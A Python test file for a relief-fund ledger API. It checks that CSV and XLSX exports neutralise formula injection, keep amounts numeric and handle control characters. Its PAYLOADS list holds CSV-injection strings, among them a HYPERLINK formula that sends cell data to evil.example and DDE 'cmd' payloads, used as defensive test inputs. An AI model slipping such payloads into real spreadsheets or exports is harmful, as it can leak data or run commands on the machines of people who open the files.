"""Exports are safe to open: no text turns into a formula, amounts stay numbers, odd data never
breaks a download, and the audit trail's details read as JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from typing import Any
from uuid import UUID

import httpx
import openpyxl
import pytest
from openpyxl.cell.cell import Cell

from domain.access import Actor
from domain.application import Context, Ledger, Outcome
from domain.cases import Assessment, Person
from domain.vocabulary import AssistanceType, Category, Cause, FundSource, Role
from tests.api.support import Api, World, payment_body, person

# OWASP's CSV injection list: a cell starting with any of these may run as a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(api: Api, outcome: Outcome[Any]) -> None:
    """Let the next view read wait for a write made with the domain, behind the API's back."""
    api.position = max(api.position, outcome.position or 0)


def as_(name: str) -> Context:
    """An admin by this name, acting on the ledger directly (the API may refuse such names)."""
    return Context(Actor(name=name, role=Role.ADMIN))


def household(api: Api, ledger: Ledger, world: World, name: str, actor: str = "admin") -> str:
    outcome = ledger.register_case(
        as_(actor),
        UUID(world.street),
        Assessment(
            category=Category.DEEP_HARDSHIP,
            primary_cause=Cause.SERIOUS_ILLNESS,
            secondary_causes=(),
            household_size=4,
            income_fen=65000,
            flags=(),
        ),
        Person(name=name, id_number=person()["id_number"], phone="13800000000"),
        date(2026, 1, 6),
    )
    written(api, outcome)
    return str(outcome.result.id)


def receipt(api: Api, ledger: Ledger, world: World, text: str, actor: str = "admin") -> None:
    outcome = ledger.receive(
        as_(actor),
        UUID(world.fund),
        50_000,
        payer=text,
        reference=text,
        business_date=date(2026, 1, 7),
    )
    written(api, outcome)


def export(api: Api, path: str, fmt: str, **params: Any) -> httpx.Response:
    response = api.view(path, format=fmt, **params)
    assert response.status_code == 200, response.text
    return response


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_rows(response: httpx.Response) -> list[dict[str, Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    header, *body = sheet.iter_rows()
    names = [str(c.value) for c in header]
    return [dict(zip(names, (c for c in row if isinstance(c, Cell)), strict=True)) for row in body]


def given_hostile_text(api: Api, ledger: Ledger, world: World, text: str) -> str:
    """A household named ``text`` and money received from a payer ``text`` under reference
    ``text``, both recorded by a user named ``text``. The ledger trims payers and references
    and refuses control characters in them, so those two hold ``text`` without the tab or CR."""
    case = household(api, ledger, world, text, actor=text)
    receipt(api, ledger, world, text.strip(), actor=text)
    return case


@pytest.mark.parametrize("text", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_given_text_that_starts_like_a_formula_when_exported_as_csv_then_every_such_cell_is_quoted(
    api: Api, ledger: Ledger, world: World, text: str
) -> None:
    case = given_hostile_text(api, ledger, world, text)

    archive = csv_rows(export(api, "/cases", "csv"))
    postings = csv_rows(export(api, f"/funds/{world.fund}/postings", "csv"))
    trail = csv_rows(export(api, "/audit/events", "csv"))

    assert [r["name"] for r in archive if r["case id"] == case] == ["'" + text]
    assert [
        (r["reference"], r["recorded by"]) for r in postings if r["amount (yuan)"] == "500.00"
    ] == [("'" + text.strip(), "'" + text)]
    assert {r["actor"] for r in trail if r["case id"] == case} == {"'" + text}
    for row in archive + postings + trail:
        for header, value in row.items():
            assert not value.startswith(TRIGGERS), (header, value)


@pytest.mark.parametrize("text", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_given_text_that_starts_like_a_formula_when_exported_as_xlsx_then_no_cell_is_a_formula(
    api: Api, ledger: Ledger, world: World, text: str
) -> None:
    case = given_hostile_text(api, ledger, world, text)
    quoted = ("'" + text).replace("\r", "\n")  # XML reads a carriage return back as a newline

    archive = xlsx_rows(export(api, "/cases", "xlsx"))
    postings = xlsx_rows(export(api, f"/funds/{world.fund}/postings", "xlsx"))
    trail = xlsx_rows(export(api, "/audit/events", "xlsx"))

    names = [r["name"] for r in archive if r["case id"].value == case]
    assert [(c.value, c.data_type) for c in names] == [(quoted, "s")]
    ours = [r for r in postings if r["amount (yuan)"].value == 500]
    assert [(r["reference"].value, r["recorded by"].value) for r in ours] == [
        ("'" + text.strip(), quoted)
    ]
    assert {r["actor"].value for r in trail if r["case id"].value == case} == {quoted}
    for row in archive + postings + trail:
        for header, c in row.items():
            assert c.data_type != "f", (header, c.value)
            if isinstance(c.value, str):
                assert c.data_type == "s" and not c.value.startswith(TRIGGERS), (header, c.value)


def test_given_a_fund_named_like_a_formula_when_the_fund_list_is_exported_then_the_name_is_text(
    api: Api, ledger: Ledger, world: World
) -> None:
    written(
        api,
        ledger.open_fund(
            as_("admin"),
            UUID(world.city),
            "=1+1",
            FundSource.CENTRAL_SPECIAL_FUND,
            2026,
            [AssistanceType.LIVING_RELIEF],
        ),
    )

    in_csv = csv_rows(export(api, "/funds", "csv"))
    in_xlsx = xlsx_rows(export(api, "/funds", "xlsx"))

    assert "'=1+1" in [r["fund"] for r in in_csv]
    assert ("'=1+1", "s") in [(r["fund"].value, r["fund"].data_type) for r in in_xlsx]


def test_given_payments_when_postings_are_exported_then_amounts_are_numbers_or_plain_text(
    api: Api, world: World
) -> None:
    api.created("/payments", payment_body(world.fund, world.case, "1234.50", "2026-01-21"))

    in_csv = csv_rows(export(api, f"/funds/{world.fund}/postings", "csv"))
    in_xlsx = xlsx_rows(export(api, f"/funds/{world.fund}/postings", "xlsx"))

    assert [(r["amount (yuan)"], r["balance after (yuan)"]) for r in in_csv] == [
        ("10000.00", "10000.00"),
        ("-1234.50", "8765.50"),
    ]
    money = [(r["amount (yuan)"], r["balance after (yuan)"]) for r in in_xlsx]
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for pair in money for c in pair)
    assert [(Decimal(str(a.value)), Decimal(str(b.value))) for a, b in money] == [
        (Decimal("10000.00"), Decimal("10000.00")),
        (Decimal("-1234.50"), Decimal("8765.50")),
    ]
    numbers = [r["no."] for r in in_xlsx]
    assert all(isinstance(c.value, int) and c.data_type == "n" for c in numbers)
    assert [str(c.value) for c in numbers] == [r["no."] for r in in_csv]


def test_given_the_archive_when_exported_as_xlsx_then_money_and_household_size_are_numbers(
    api: Api, world: World
) -> None:
    rows = xlsx_rows(export(api, "/cases", "xlsx"))

    (row,) = [r for r in rows if r["case id"].value == world.case]
    assert (row["household size"].value, row["household size"].data_type) == (3, "n")
    income = row["income per head a month (yuan)"]
    assert (income.data_type, Decimal(str(income.value))) == ("n", Decimal("650.00"))
    assert income.number_format == "#,##0.00"
    for header in ("received in year (yuan)", "received in all (yuan)"):
        assert row[header].data_type == "n" and row[header].value == 0, header


def test_given_the_audit_trail_when_exported_as_xlsx_then_positions_are_numbers(
    api: Api, world: World
) -> None:
    rows = xlsx_rows(export(api, "/audit/events", "xlsx"))

    assert rows and all(r["position"].data_type == "n" for r in rows)
    assert all(isinstance(r["position"].value, int) for r in rows)


def test_given_control_characters_stored_behind_the_api_when_exported_then_xlsx_still_works(
    api: Api, ledger: Ledger, world: World
) -> None:
    # stored before the ledger refused control characters, or by a path that skips the check:
    # a household's name is sealed as given, and the acting user's name is taken as it comes
    case = household(api, ledger, world, "王\x00五\x07", actor="clerk\x1b[31m\x0b")
    receipt(api, ledger, world, "CZ-2", actor="clerk\x1b[31m\x0b")

    archive = xlsx_rows(export(api, "/cases", "xlsx"))
    postings = xlsx_rows(export(api, f"/funds/{world.fund}/postings", "xlsx"))
    trail = xlsx_rows(export(api, "/audit/events", "xlsx"))

    assert [r["name"].value for r in archive if r["case id"].value == case] == ["王\ufffd五\ufffd"]
    assert [r["recorded by"].value for r in postings if r["reference"].value == "CZ-2"] == [
        "clerk\ufffd[31m\ufffd"
    ]
    assert {r["actor"].value for r in trail if r["case id"].value == case} == {
        "clerk\ufffd[31m\ufffd"
    }


def test_given_the_audit_trail_when_exported_as_csv_then_details_are_json_with_chinese_kept(
    api: Api, world: World
) -> None:
    rows = csv_rows(export(api, "/audit/events", "csv"))

    (received,) = [r for r in rows if r["event"] == "Received"]
    assert "财政部" in received["details"]
    details = json.loads(received["details"])
    assert (details["payer"], details["reference"], details["amount"]) == (
        "财政部",
        "CZ-1",
        "10000.00",
    )
    assert all(json.loads(r["details"]) is not None for r in rows)


def test_given_the_audit_trail_when_exported_as_xlsx_then_details_are_json_text(
    api: Api, world: World
) -> None:
    rows = xlsx_rows(export(api, "/audit/events", "xlsx"))

    (received,) = [r for r in rows if r["event"].value == "Received"]
    assert received["details"].data_type == "s"
    assert json.loads(str(received["details"].value))["payer"] == "财政部"
